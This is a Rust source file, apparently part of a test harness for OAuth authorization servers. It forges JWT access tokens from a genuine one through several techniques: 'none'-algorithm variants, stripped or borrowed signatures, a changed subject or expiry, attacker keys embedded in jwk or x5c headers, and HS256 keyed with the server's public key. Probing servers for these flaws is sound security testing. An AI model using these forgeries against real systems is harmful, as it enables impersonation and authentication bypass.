//! Access tokens that the authorization server never issued, forged from one that it did.

use base64ct::{Base64, Base64UrlUnpadded, Encoding as _};
use openssl::bn::BigNum;
use openssl::ec::{EcGroup, EcKey};
use openssl::error::ErrorStack;
use openssl::nid::Nid;
use openssl::pkey::{PKey, Public};
use openssl::rsa::Rsa;
use openssl::x509::X509;
use p256::SecretKey;
use serde_json::{Map, Value, json};

use super::Credential;
use crate::actor::Party;
use crate::actor::environment::Environment;
use crate::actor::environment::clients::Who;
use crate::actor::forge::foreign_key::ForeignAlgorithm;
use crate::actor::forge::{Jwt, certificate, new_key, public_key};
use crate::actor::oauth_client::obtain_access_token;
use crate::actor::office::Office;
use crate::exchange::call::Call;
use crate::oracle::compact::Compact;
use crate::oracle::key_set::KeySet;
use crate::stop::Stop;

/// The longest time by which an expiry is put off, in seconds.
const DAY: i64 = 24 * 60 * 60;

/// Somebody who has seen an access token and the published keys.
#[derive(Debug)]
pub struct Forger<'a> {
    environment: &'a Environment,
    office: &'a Office,
    genuine: Compact,
    published: Map<String, Value>,
}

impl<'a> Forger<'a> {
    /// Looks at the office's own token and at the key that signed it.
    pub async fn learn(environment: &'a Environment, office: &'a Office) -> Result<Self, Stop> {
        let genuine = Compact::read(office.access_token());
        let genuine = genuine.map_err(|_| {
            Stop::not_applicable(
                "the access token is no JWT, so that nothing can be forged from it",
            )
        })?;
        let published = published_key(environment, genuine.header_text("kid")).await?;
        Ok(Self {
            environment,
            office,
            genuine,
            published,
        })
    }

    /// Forges a token.
    pub async fn forge(&self, forgery: Credential) -> Result<String, Stop> {
        match forgery {
            Credential::Unsigned => Ok(self.unsigned("none")),
            Credential::UnsignedCapital => Ok(self.unsigned("None")),
            Credential::UnsignedCapitals => Ok(self.unsigned("NONE")),
            Credential::UnsignedMixed => Ok(self.unsigned("nOnE")),
            Credential::NoSignature => Ok(resealed(&self.draft(), &[])),
            Credential::ChangedSubject => self.with_another_subject(),
            Credential::ChangedExpiry => Ok(self.with_a_later_expiry()),
            Credential::OtherSignature => self.with_another_signature().await,
            Credential::ForeignKey => self.signed_with_a_foreign_key(),
            Credential::ClientKey => Ok(self.signed_by(&self.office.client.key)),
            Credential::OwnKey => Ok(self.with_its_own_key()),
            Credential::OwnCertificate => self.with_its_own_certificate(),
            _ => self
                .keyed_with_the_public_key(forgery)
                .map_err(Stop::harness_bug),
        }
    }

    fn draft(&self) -> Jwt {
        Jwt::new(
            Value::Object(self.genuine.header.clone()),
            Value::Object(self.genuine.claims.clone()),
        )
    }

    fn unsigned(&self, algorithm: &str) -> String {
        self.draft()
            .with_header("alg", algorithm)
            .without_header("kid")
            .unsigned()
    }

    /// Another client's name wherever that of this one stands, under the old signature.
    fn with_another_subject(&self) -> Result<String, Stop> {
        let other = self.environment.client(Who::AnotherClient)?.client_id;
        let own = json!(self.office.client.client_id);
        let named = self
            .genuine
            .claims
            .iter()
            .filter(|(_, value)| **value == own);
        let jwt = named.fold(self.draft(), |jwt, (name, _)| {
            jwt.with_claim(name, other.clone())
        });
        Ok(resealed(
            &jwt.with_claim("sub", other),
            &self.genuine.signature,
        ))
    }

    fn with_a_later_expiry(&self) -> String {
        let expiry = self
            .genuine
            .claims
            .get("exp")
            .and_then(Value::as_i64)
            .unwrap_or_default();
        resealed(
            &self.draft().with_claim("exp", expiry + DAY),
            &self.genuine.signature,
        )
    }

    async fn with_another_signature(&self) -> Result<String, Stop> {
        let other = obtain_access_token(self.environment, self.office.client.who).await?;
        let (input, _) = self
            .office
            .access_token()
            .rsplit_once('.')
            .unwrap_or_default();
        let (_, signature) = other.rsplit_once('.').unwrap_or_default();
        Ok(format!("{input}.{signature}"))
    }

    /// The same algorithm and `kid`, another key.
    fn signed_with_a_foreign_key(&self) -> Result<String, Stop> {
        if self.genuine.header_text("alg") == Some("ES256") {
            return Ok(self.draft().signed_by(&new_key()));
        }
        let algorithm = match self.genuine.header_text("alg") {
            Some("PS256") => ForeignAlgorithm::Ps256,
            _ => ForeignAlgorithm::Rs256,
        };
        let mut signed = Ok(Vec::new());
        let sealed = self
            .draft()
            .with_header("alg", algorithm.name())
            .sealed(|input| {
                signed = algorithm.sign(input);
                Vec::new()
            });
        let signature = signed.map_err(Stop::harness_bug)?;
        Ok(sealed.map_signature(|_| signature).compact())
    }

    fn signed_by(&self, key: &SecretKey) -> String {
        self.draft().with_header("alg", "ES256").signed_by(key)
    }

    fn with_its_own_key(&self) -> String {
        let key = new_key();
        let jwk = public_key::jwk(&key.public_key(), None);
        self.draft()
            .with_header("alg", "ES256")
            .without_header("kid")
            .with_header("jwk", jwk)
            .signed_by(&key)
    }

    fn with_its_own_certificate(&self) -> Result<String, Stop> {
        let key = new_key();
        let now = self.environment.clock().unix_now();
        let pem = certificate::of_key(&key, "attacker", now).map_err(Stop::harness_bug)?;
        let der = X509::from_pem(pem.as_bytes()).and_then(|certificate| certificate.to_der());
        let chain = json!([Base64::encode_string(&der.map_err(Stop::harness_bug)?)]);
        Ok(self
            .draft()
            .with_header("alg", "ES256")
            .without_header("kid")
            .with_header("x5c", chain)
            .signed_by(&key))
    }

    fn keyed_with_the_public_key(&self, forgery: Credential) -> Result<String, ErrorStack> {
        let key = openssl_key(&self.published)?;
        let secret = match forgery {
            Credential::HmacPem => key.public_key_to_pem()?,
            Credential::HmacDer => key.public_key_to_der()?,
            _ => main_number(&self.published),
        };
        Ok(self.draft().with_header("alg", "HS256").keyed_with(&secret))
    }
}

/// The token with a signature that was made for something else.
fn resealed(jwt: &Jwt, signature: &[u8]) -> String {
    jwt.sealed(|_| signature.to_vec()).compact()
}

/// The published key that a token names, or the first one where it names none.
async fn published_key(
    environment: &Environment,
    kid: Option<&str>,
) -> Result<Map<String, Value>, Stop> {
    let location = environment.authorization_server().await?.jwks_uri;
    let call = Call::get(Party::AuthorizationServer, location);
    let exchange = environment.sender("attacker").send(call).await?;
    let octets = exchange
        .response
        .map(|response| response.body)
        .unwrap_or_default();
    let keys = KeySet::read(&octets).map_err(Stop::inconclusive)?;
    let key = keys.candidates(kid).next().cloned();
    key.ok_or_else(|| {
        Stop::inconclusive("the published key set does not hold the key of the access token")
    })
}

/// A published key as OpenSSL knows it.
fn openssl_key(key: &Map<String, Value>) -> Result<PKey<Public>, ErrorStack> {
    let number = |name: &str| BigNum::from_slice(&octets(key, name));
    if key.get("kty").and_then(Value::as_str) == Some("EC") {
        let group = EcGroup::from_curve_name(Nid::X9_62_PRIME256V1)?;
        let point =
            EcKey::from_public_key_affine_coordinates(&group, &*number("x")?, &*number("y")?)?;
        return PKey::from_ec_key(point);
    }
    PKey::from_rsa(Rsa::from_public_components(number("n")?, number("e")?)?)
}

/// The modulus of an RSA key, the first coordinate of any other.
fn main_number(key: &Map<String, Value>) -> Vec<u8> {
    let name = if key.contains_key("n") { "n" } else { "x" };
    octets(key, name)
}

fn octets(key: &Map<String, Value>, name: &str) -> Vec<u8> {
    let text = key.get(name).and_then(Value::as_str).unwrap_or_default();
    Base64UrlUnpadded::decode_vec(text).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "a test may stop here")]

    use super::*;
    use crate::actor::forge::foreign_key;

    #[test]
    fn a_published_key_of_either_kind_has_a_pem_text() {
        let elliptic = public_key::jwk(&new_key().public_key(), None);
        let rsa = foreign_key::rsa_jwk("r").unwrap();
        for jwk in [elliptic, rsa] {
            let key = openssl_key(jwk.as_object().unwrap()).unwrap();
            assert!(
                key.public_key_to_pem()
                    .unwrap()
                    .starts_with(b"-----BEGIN PUBLIC KEY-----")
            );
        }
    }

    #[test]
    fn the_modulus_is_that_of_the_key() {
        let rsa = foreign_key::rsa_jwk("r").unwrap();
        assert_eq!(main_number(rsa.as_object().unwrap()).len(), 256);
    }
}
